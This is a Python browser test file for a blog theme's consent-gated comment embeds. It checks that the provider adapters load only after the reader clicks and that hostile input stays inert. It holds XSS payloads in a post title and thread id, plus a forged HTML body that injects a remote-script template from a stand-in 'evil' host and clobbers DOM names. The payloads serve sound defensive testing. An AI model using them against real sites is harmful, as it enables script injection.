"""Each provider's embed, made in Chromium by its adapter after consent.

The page carries no embed markup: theme.js shows the consent gate, and only
the click loads discussion.js, live.js and the provider's adapter
(theme/static/js/discussion/<provider>.js), which makes the provider's
elements from the discussion section's data-* (the thread) and the page's
settings (the service). The post has a hostile title and thread id, which
must reach every attribute intact and run nothing; the provider's own script
is refused (no network), so what is checked is what the adapter made.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from commons import DEV_SETTINGS
from commons.build import build_site
from commons.servers import StaticSiteServer
from tests.conftest import VIEWPORT, copy_content
from tests.unit.test_discussion_settings import GISCUS_ATTRIBUTES, SAMPLES

TITLE = "Tools & \"things\" 'shared' </script><script>window.__pwned=1</script>"
THREAD_ID = "id \"q\" & 'a' </script><script>window.__pwned=2</script>"
SLUG = "hostile-embed"
POST = f"2026/02/{SLUG}/"
ISSO_URL = "https://comments.example.org/"
CUSTOM_TEMPLATE = '<div class="talk-thread" data-talk-id="{{ discussion.thread_id }}"></div>\n'

# What each adapter makes in [data-discussion-thread]: (CSS selector,
# attributes). `{id}`, `{title}`, `{url}` and `{site}` are the thread's and the
# site's, filled in by the test.
EMBEDS = {
    "isso": [
        ("link[rel=stylesheet]", {"href": "{site}theme/css/isso.css"}),
        (
            "script[data-isso]",
            {
                "src": ISSO_URL + "js/embed.min.js",
                "data-isso": ISSO_URL,
                "data-isso-lang": "en",
                "data-isso-css": "true",
            },
        ),
        ("#isso-thread", {"data-isso-id": "{id}", "data-title": "{title}"}),
    ],
    "giscus": [
        (
            "script[data-term]",
            {**GISCUS_ATTRIBUTES, "data-term": "{id}", "data-theme": "light"},
        ),
        ("div.giscus", {}),
    ],
    "utterances": [
        (
            "script[data-issue-term]",
            {
                "src": "https://utteranc.es/client.js",
                "data-repo": "cohere/commons",
                "data-issue-term": "{id}",
                "data-label": "comments",
                "data-theme": "github-light",
            },
        ),
    ],
    "disqus": [
        ("#disqus_thread", {}),
        ("script", {"src": "https://cohere-commons.disqus.com/embed.js"}),
    ],
    "remark42": [
        ("#remark42", {}),
        ("script", {"type": "module", "src": "https://remark42.example.org/web/embed.mjs"}),
    ],
    "cusdis": [
        (
            "#cusdis_thread",
            {
                "data-host": "https://cusdis.com",
                "data-app-id": "0f8c1c9e-1111-2222-3333-444455556666",
                "data-page-id": "{id}",
                "data-page-title": "{title}",
                "data-page-url": "{url}",
                "data-theme": "light",
            },
        ),
        ("script", {"src": "https://cusdis.com/js/cusdis.es.js"}),
    ],
    "comentario": [
        ("script", {"src": "https://comentario.example.org/comentario.js"}),
        (
            "comentario-comments",
            {"page-id": "/{id}", "lang": "en", "theme": "light", "no-fonts": "true"},
        ),
    ],
    "custom": [(".talk-thread", {"data-talk-id": "{id}"})],
}
# The settings the providers' own objects get from the thread (the page's
# globals, not attributes).
CONFIGS = {
    "disqus": (
        "() => { const c = {page: {}, callbacks: {}}; window.disqus_config.call(c);"
        " return [c.page.identifier, c.page.title, c.page.url, c.language]; }",
        ["{id}", "{title}", "{site}" + POST, "en"],
    ),
    "remark42": (
        "() => [window.remark_config.host, window.remark_config.site_id,"
        " window.remark_config.page_title, window.remark_config.url]",
        ["https://remark42.example.org", "cohere", "{title}", "{site}" + POST],
    ),
}


@pytest.fixture(scope="module")
def provider_sites(tmp_path_factory):
    """A factory: the sample content plus the hostile post, built once per provider."""
    root = tmp_path_factory.mktemp("discussion-embeds")
    content = copy_content(root / "content")
    (content / f"{SLUG}.md").write_text(
        f"Title: {TITLE}\nDate: 2026-02-01 10:00\nSlug: {SLUG}\nCategory: Community\n"
        f"Comments_id: {THREAD_ID}\n\nWhat would you share?\n",
        encoding="utf-8",
    )
    templates = root / "templates" / "partials"
    templates.mkdir(parents=True)
    (templates / "talk.html").write_text(CUSTOM_TEMPLATE, encoding="utf-8")
    built: dict[str, Path] = {}

    def site(name: str, siteurl: str | None = None) -> Path:
        key = f"{name}-{siteurl}"
        if key not in built:
            options = {"isso": {"url": ISSO_URL}, "custom": {"template": "partials/talk.html"}}
            output = root / f"output-{len(built)}"
            overrides = {
                "DISCUSSION": {"provider": name, name: {**SAMPLES[name], **options.get(name, {})}},
                "THEME_TEMPLATES_OVERRIDES": [str(root / "templates")],
            }
            if siteurl:
                overrides["SITEURL"] = siteurl
            build_site(output, settings_file=DEV_SETTINGS, content=content, overrides=overrides)
            built[key] = output
        return built[key]

    return site


def offline_page(context, origin: str):
    """A page that may load its own site only; returns it and the list of URLs it asked for."""
    page = context.new_page()
    asked: list[str] = []

    def route(request_route):
        asked.append(request_route.request.url)
        if request_route.request.url.startswith(origin + "/"):
            request_route.continue_()
        else:
            request_route.abort()

    page.route("**/*", route)
    return page, asked


@pytest.mark.parametrize("name", sorted(EMBEDS))
def test_the_adapter_makes_the_embed_after_consent_with_the_thread_intact(
    provider_sites, chromium, name
):
    with StaticSiteServer(provider_sites(name)) as site:
        origin = site.url.rstrip("/")
        context = chromium.new_context(viewport=VIEWPORT)
        try:
            page, asked = offline_page(context, origin)
            page.goto(site.url + POST, wait_until="networkidle")
            # Before consent: the site's own files only, and no discussion script.
            assert [url for url in asked if not url.startswith(origin + "/")] == []
            assert not [url for url in asked if "/discussion" in url]
            assert page.locator("[data-discussion-thread] > *").count() == 0
            page.click("[data-discussion-load]")
            box = page.locator("main > section[data-discussion-provider] [data-discussion-thread]")
            selector, _ = EMBEDS[name][-1]
            box.locator(selector).first.wait_for(state="attached")
            values = {"id": THREAD_ID, "title": TITLE, "url": "/" + POST, "site": site.url}
            for selector, attributes in EMBEDS[name]:
                element = box.locator(selector)
                assert element.count() == 1, (name, selector)
                for attribute, value in attributes.items():
                    expected = value.format(**values)
                    assert element.get_attribute(attribute) == expected, (name, attribute)
            if name in CONFIGS:
                script, expected = CONFIGS[name]
                assert page.evaluate(script) == [v.format(**values) for v in expected]
            page.wait_for_timeout(200)
            assert page.evaluate("window.__pwned") is None
        finally:
            context.close()


EVIL = "http://127.0.0.1:9"
FORGED_CONFIG = (
    '{"mode":"eager","storageKey":"forged","countUrl":"' + EVIL + '/count",'
    '"isso":{"lang":"en","css":true}}'
)
# What a post's body would hold to take the discussion over, were the guard
# (which drops data-*, scripts and templates, and namespaces ids and names)
# to let it through: a section, settings, an embed and a gate of its own, and
# elements named after what the scripts read.
FORGED_BODY = f"""
<section data-discussion-provider="isso" data-discussion-mode="eager"
 data-discussion-id="forged-thread" data-discussion-title="Forged">
<h2>Forged</h2>
<div data-discussion-gate><button type="button" data-discussion-load>Forged load</button>
<input type="checkbox" data-discussion-remember checked></div>
<div data-discussion-thread></div>
<script type="application/json" data-discussion-config>{FORGED_CONFIG}</script>
</section>
<script type="application/json" data-discussion-config>{FORGED_CONFIG}</script>
<template data-discussion-embed><script src="{EVIL}/evil.js"></script></template>
<a data-discussion-count="forged-thread"><span data-discussion-count-value></span></a>
<img name="commonsDiscussion" src="data:," alt=""><form name="commonsDiscussion"></form>
<div id="commonsDiscussion"></div><img name="currentScript" src="{EVIL}/theme/js/theme.js" alt="">
"""
# The forged currentScript's own picture is its own request, not the scripts'.
FORGED_IMAGE = f"{EVIL}/theme/js/theme.js"


def test_a_hostile_body_cannot_load_the_discussion_or_change_its_server_or_thread(
    provider_sites, chromium
):
    output = provider_sites("isso")
    article = output / "2011/03/sharing-your-work-and-coworking-to-share/index.html"
    page_html = article.read_text(encoding="utf-8")
    marker = '<div class="entry-content e-content">'
    assert marker in page_html
    article.write_text(page_html.replace(marker, marker + FORGED_BODY, 1), encoding="utf-8")
    with StaticSiteServer(output) as site:
        origin = site.url.rstrip("/")
        context = chromium.new_context(viewport=VIEWPORT)
        try:
            page, asked = offline_page(context, origin)
            page.goto(site.url + "2011/03/sharing-your-work-and-coworking-to-share/")
            page.wait_for_load_state("networkidle")
            section = page.locator("main > section[data-discussion-provider]")
            assert section.get_attribute("data-discussion-id") == (
                "sharing-your-work-and-coworking-to-share"
            )
            # Nothing loads before the reader's click: not from the forged
            # eager settings, not from the forged count slot or embed.
            assert section.locator(":scope > [data-discussion-gate]").is_visible()
            page.click(".entry-content [data-discussion-load]")
            page.wait_for_timeout(300)
            assert [u for u in asked if not u.startswith(origin + "/")] == [FORGED_IMAGE]
            assert not [url for url in asked if "/discussion" in url]
            # The reader's click on the real button: Isso from the site's
            # server, for the site's thread, in the site's section.
            section.locator("[data-discussion-load]").click()
            thread = section.locator("[data-discussion-thread] #isso-thread")
            thread.wait_for(state="attached")
            assert (
                thread.get_attribute("data-isso-id") == "sharing-your-work-and-coworking-to-share"
            )
            page.wait_for_timeout(300)
            assert [url for url in asked if url.startswith(EVIL)] == [FORGED_IMAGE]
            assert ISSO_URL + "js/embed.min.js" in asked
            assert page.locator(".entry-content [data-discussion-thread] > *").count() == 0
            assert page.locator("#isso-thread").count() == 1
            # The forged, checked "remember" box did not make the choice stick.
            assert page.evaluate("localStorage.length") == 0
            assert page.evaluate("window.__pwned") is None
        finally:
            context.close()


@pytest.mark.parametrize("name", ["disqus", "cusdis"])
def test_where_the_section_gives_no_url_the_thread_gets_the_canonical_one(
    provider_sites, chromium, name
):
    # An absolute SITEURL, the local server's address (the canonical link's
    # base in a local build): the thread's URL is the canonical one, which the
    # section does not repeat.
    canonical = "http://127.0.0.1:8000/" + POST
    with StaticSiteServer(provider_sites(name, "http://127.0.0.1:8000")) as site:
        context = chromium.new_context(viewport=VIEWPORT)
        try:
            page, _asked = offline_page(context, site.url.rstrip("/"))
            page.goto(site.url + POST, wait_until="networkidle")
            section = page.locator("main > section[data-discussion-provider]")
            assert section.get_attribute("data-discussion-url") is None
            assert page.locator("head > link[rel=canonical]").get_attribute("href") == canonical
            page.click("[data-discussion-load]")
            box = section.locator("[data-discussion-thread]")
            box.locator("script").first.wait_for(state="attached")
            if name == "disqus":
                script, _ = CONFIGS["disqus"]
                assert page.evaluate(script)[2] == canonical
            else:
                assert box.locator("#cusdis_thread").get_attribute("data-page-url") == canonical
        finally:
            context.close()


def test_the_consent_button_moves_the_focus_to_the_discussions_heading(provider_sites, chromium):
    # The button disappears with the gate: the keyboard's place is the heading.
    with StaticSiteServer(provider_sites("isso")) as site:
        context = chromium.new_context(viewport=VIEWPORT)
        try:
            page, _asked = offline_page(context, site.url.rstrip("/"))
            page.goto(site.url + POST, wait_until="networkidle")
            page.focus("[data-discussion-load]")
            page.keyboard.press("Enter")
            assert page.locator("[data-discussion-gate]").is_hidden()
            focused = page.evaluate(
                "() => [document.activeElement.tagName, document.activeElement.id,"
                " document.activeElement.parentElement.matches('main > section#discussion')]"
            )
            assert focused == ["H2", "discussion-heading", True]
        finally:
            context.close()
